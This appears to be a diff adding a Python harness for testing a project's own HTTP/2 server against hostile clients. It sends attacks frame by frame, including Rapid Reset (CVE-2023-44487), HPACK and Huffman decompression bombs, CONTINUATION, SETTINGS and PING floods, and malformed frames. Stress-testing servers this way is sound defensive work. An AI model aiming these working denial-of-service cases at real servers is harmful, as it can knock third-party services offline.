@@ -1,0 +1,321 @@
+#!/usr/bin/env python3
+"""Hostile HTTP/2 clients, frame by frame, for crates/myriad/tests/h2_hostile.rs and
+`myriad bench abuse --h2`.
+
+Each case opens one TLS connection (ALPN h2), does what an attacker would, and reads
+what the server answers until it closes, sends GOAWAY, or the case has its answer.
+Frames are built with hyperframe and header blocks with hpack (the libraries the
+Python `h2` package is made of); the honest handshake comes from h2 itself.
+
+    h2_hostile.py --addr 127.0.0.1:8443 --ca ca.pem [--host localhost] CASE...
+
+prints one JSON object per case: {"case", "goaway" (code or null), "rst" ({stream:
+code}), "status" ({stream: :status}), "closed" (bool), "sent" (bytes), "seconds"}.
+Every loop is bounded in count and time.
+"""
+
+import argparse
+import json
+import socket
+import ssl
+import sys
+import time
+
+import h2.config
+import h2.connection
+import hpack
+from hyperframe.frame import (
+    ContinuationFrame,
+    DataFrame,
+    Frame,
+    GoAwayFrame,
+    HeadersFrame,
+    PingFrame,
+    RstStreamFrame,
+    SettingsFrame,
+)
+
+READ_DEADLINE = 15.0
+
+
+class Conn:
+    def __init__(self, addr, ca, host):
+        ctx = ssl.create_default_context(cafile=ca)
+        ctx.set_alpn_protocols(["h2"])
+        raw = socket.create_connection(addr, timeout=READ_DEADLINE)
+        self.sock = ctx.wrap_socket(raw, server_hostname=host)
+        assert self.sock.selected_alpn_protocol() == "h2", "server did not agree on h2"
+        self.buf = b""
+        self.sent = 0
+        self.goaway = None
+        self.rst = {}
+        self.status = {}
+        self.closed = False
+        self.acked = False
+        self.decoder = hpack.Decoder()
+        # The honest handshake: preface and SETTINGS from the h2 library.
+        h2c = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
+        h2c.initiate_connection()
+        self.send(h2c.data_to_send())
+
+    def send(self, data):
+        try:
+            self.sock.sendall(data)
+            self.sent += len(data)
+        except OSError:
+            self.closed = True
+
+    def send_frames(self, frames):
+        self.send(b"".join(f.serialize() for f in frames))
+
+    def read_frame(self, deadline):
+        while len(self.buf) < 9 or len(self.buf) < 9 + int.from_bytes(self.buf[:3], "big"):
+            if self.closed or time.monotonic() > deadline:
+                return None
+            try:
+                self.sock.settimeout(max(0.05, deadline - time.monotonic()))
+                chunk = self.sock.recv(65536)
+            except socket.timeout:
+                return None
+            except (OSError, ssl.SSLError):
+                self.closed = True
+                return None
+            if not chunk:
+                self.closed = True
+                return None
+            self.buf += chunk
+        frame, length = Frame.parse_frame_header(memoryview(self.buf[:9]))
+        frame.parse_body(memoryview(self.buf[9 : 9 + length]))
+        self.buf = self.buf[9 + length :]
+        self.note(frame)
+        return frame
+
+    def note(self, frame):
+        if isinstance(frame, GoAwayFrame):
+            self.goaway = frame.error_code
+        elif isinstance(frame, RstStreamFrame):
+            self.rst[frame.stream_id] = frame.error_code
+        elif isinstance(frame, HeadersFrame):
+            for name, value in self.decoder.decode(frame.data):
+                if name in (b":status", ":status"):
+                    self.status[frame.stream_id] = int(value)
+        elif isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
+            self.send_frames([SettingsFrame(0, flags=["ACK"])])
+            self.acked = True
+
+    def read_until(self, done, seconds=READ_DEADLINE):
+        """Reads frames until done(self) holds, GOAWAY, close, or `seconds`."""
+        deadline = time.monotonic() + seconds
+        while not done(self) and self.goaway is None and not self.closed:
+            if self.read_frame(deadline) is None and time.monotonic() > deadline:
+                break
+        return self
+
+    def handshake(self):
+        """Reads the server's SETTINGS and acknowledges them."""
+        return self.read_until(lambda c: c.acked, 5)
+
+    def result(self, case, started):
+        return {
+            "case": case,
+            "goaway": self.goaway,
+            "rst": {str(k): v for k, v in self.rst.items()},
+            "status": {str(k): v for k, v in self.status.items()},
+            "closed": self.closed,
+            "sent": self.sent,
+            "seconds": round(time.monotonic() - started, 3),
+        }
+
+
+def request_block(method, path, extra=()):
+    """A header block after our SETTINGS ACK: it opens with the table size update to
+    0 that the server's SETTINGS_HEADER_TABLE_SIZE = 0 asks for."""
+    enc = hpack.Encoder()
+    enc.header_table_size = 0
+    fields = [(":method", method), (":scheme", "https"), (":authority", "localhost"), (":path", path)]
+    return enc.encode(fields + list(extra))
+
+
+def headers(stream, block, end_stream=True, end_headers=True):
+    flags = (["END_STREAM"] if end_stream else []) + (["END_HEADERS"] if end_headers else [])
+    return HeadersFrame(stream, data=block, flags=flags)
+
+
+def gone(c):
+    return c.goaway is not None or c.closed
+
+
+# --- the cases ------------------------------------------------------------------
+# Each returns the connection after its answer; `args` carries options (api key).
+
+
+def truncated_size_update(c, args):
+    # The 10-byte frame that aborted the server: HPACK 0x3F, a size update cut short.
+    c.send_frames([headers(1, b"\x3f")])
+    return c.read_until(gone)
+
+
+def huffman_bomb(c, args):
+    # 16 KB of empty Huffman-coded names and values (00 80 80), five times.
+    block = b"\x20" + b"\x00\x80\x80" * 5460
+    for i in range(5):
+        c.send_frames([headers(1 + 2 * i, block)])
+    return c.read_until(lambda c: len(c.status) >= 5 or gone(c))
+
+
+def hpack_bomb(c, args):
+    # Before our SETTINGS (table size 0) applies: one 3,900-byte entry in the dynamic
+    # table, then 4,000 one-byte references to it, 16 MB of headers from 8 KB.
+    value = b"v" * 3900
+    entry = b"\x40\x01x" + encode_int(len(value), 7, 0) + value
+    c.send_frames([headers(1, entry + b"\xbe" * 4000)])
+    return c.read_until(lambda c: 1 in c.status or gone(c))
+
+
+def encode_int(value, prefix, first):
+    top = (1 << prefix) - 1
+    if value < top:
+        return bytes([first | value])
+    out = [first | top]
+    value -= top
+    while value >= 128:
+        out.append((value % 128) | 0x80)
+        value //= 128
+    out.append(value)
+    return bytes(out)
+
+
+def continuation_flood(c, args):
+    # A header block that never ends: 1 KB CONTINUATION frames, up to 1,000 of them.
+    c.send_frames([headers(1, request_block("GET", "/sse/1"), end_headers=False)])
+    for _ in range(1000):
+        c.send_frames([ContinuationFrame(1, data=b"\x40\x01a\x01b" * 200)])
+        if c.closed:
+            break
+    return c.read_until(gone)
+
+
+def empty_continuation_flood(c, args):
+    c.send_frames([headers(1, request_block("GET", "/sse/1"), end_headers=False)])
+    for _ in range(20):
+        c.send_frames([ContinuationFrame(1, data=b"") for _ in range(500)])
+        if c.closed:
+            break
+    return c.read_until(gone)
+
+
+def rapid_reset(c, args):
+    # Open a subscription and reset it at once, 5,000 times (CVE-2023-44487).
+    for i in range(5000):
+        stream = 1 + 2 * i
+        c.send_frames([headers(stream, request_block("GET", f"/sse/{i}")), RstStreamFrame(stream, error_code=8)])
+        if c.closed or c.goaway is not None:
+            break
+        if i % 200 == 0:
+            c.read_until(lambda c: True, 0.01)
+    return c.read_until(gone)
+
+
+def settings_flood(c, args):
+    for _ in range(20):
+        c.send_frames([SettingsFrame(0) for _ in range(500)])
+        if c.closed:
+            break
+    return c.read_until(gone)
+
+
+def ping_flood(c, args):
+    for _ in range(20):
+        c.send_frames([PingFrame(0, opaque_data=b"12345678") for _ in range(500)])
+        if c.closed:
+            break
+    return c.read_until(gone)
+
+
+def empty_data_flood(c, args):
+    extra = [("authorization", f"Bearer {args.api_key}")] if args.api_key else []
+    c.send_frames([headers(1, request_block("POST", "/pub/1", extra), end_stream=False)])
+    for _ in range(20):
+        c.send_frames([DataFrame(1, data=b"") for _ in range(500)])
+        if c.closed:
+            break
+    return c.read_until(gone)
+
+
+def oversized_frame(c, args):
+    # A DATA frame header saying 16,385 bytes (over SETTINGS_MAX_FRAME_SIZE).
+    c.send(b"\x00\x40\x01\x00\x00\x00\x00\x00\x01")
+    return c.read_until(gone)
+
+
+def malformed_ping(c, args):
+    # PING with 7 bytes of payload (must be 8).
+    c.send(b"\x00\x00\x07\x06\x00\x00\x00\x00\x00" + b"1234567")
+    return c.read_until(gone)
+
+
+def unauthenticated_body(c, args):
+    # A publish without the key that announces 1 MiB: refused before any DATA.
+    block = request_block("POST", "/pub/1", [("content-length", str(1 << 20))])
+    c.send_frames([headers(1, block, end_stream=False)])
+    c.read_until(lambda c: 1 in c.status, 5)
+    # What a client that ignores the answer sends next is dropped and reset.
+    if 1 in c.status:
+        c.send_frames([DataFrame(1, data=b"x" * 16384) for _ in range(3)])
+        c.read_until(lambda c: 1 in c.rst, 2)
+    return c
+
+
+def many_unauthenticated_bodies(c, args):
+    # 100 streams, each announcing 1 MiB and sending its first 48 KB without the key.
+    block = lambda: request_block("POST", "/pub/1", [("content-length", str(1 << 20))])
+    for i in range(100):
+        s = 1 + 2 * i
+        c.send_frames([headers(s, block(), end_stream=False)] + [DataFrame(s, data=b"x" * 16000) for _ in range(3)])
+        if c.closed or c.goaway is not None:
+            break
+    return c.read_until(lambda c: len(c.status) >= 100 or gone(c))
+
+
+def idle_without_streams(c, args):
+    # Nothing after the handshake: the keep-alive timeout closes it with GOAWAY.
+    return c.read_until(gone, 20)
+
+
+CASES = {f.__name__: f for f in [
+    truncated_size_update, huffman_bomb, hpack_bomb, continuation_flood,
+    empty_continuation_flood, rapid_reset, settings_flood, ping_flood,
+    empty_data_flood, oversized_frame, malformed_ping, unauthenticated_body,
+    many_unauthenticated_bodies, idle_without_streams,
+]}
+
+
+def main():
+    p = argparse.ArgumentParser()
+    p.add_argument("--addr", required=True)
+    p.add_argument("--ca", required=True)
+    p.add_argument("--host", default="localhost")
+    p.add_argument("--api-key", default="")
+    p.add_argument("--repeat", type=int, default=1, help="run each case this many times")
+    p.add_argument("cases", nargs="+", help=" ".join(CASES))
+    args = p.parse_args()
+    host, port = args.addr.rsplit(":", 1)
+    for name in args.cases:
+        if name not in CASES:
+            sys.exit(f"unknown case {name}; known: {' '.join(CASES)}")
+        for _ in range(args.repeat):
+            started = time.monotonic()
+            c = Conn((host, int(port)), args.ca, args.host)
+            # These two strike before reading anything, as an attacker would.
+            if name not in ("truncated_size_update", "hpack_bomb"):
+                c.handshake()
+            CASES[name](c, args)
+            print(json.dumps(c.result(name, started)), flush=True)
+            try:
+                c.sock.close()
+            except OSError:
+                pass
+
+
+if __name__ == "__main__":
+    main()
